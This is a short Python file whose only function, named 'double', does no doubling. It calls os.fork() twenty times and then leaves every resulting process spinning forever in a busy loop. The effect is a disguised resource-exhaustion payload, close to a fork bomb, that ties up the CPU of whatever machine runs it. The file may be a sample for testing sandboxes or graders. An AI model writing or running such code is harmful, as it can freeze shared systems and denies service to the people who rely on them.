import os


def double(x):
    for _ in range(20):
        if os.fork() == 0:
            break
    while True:
        pass
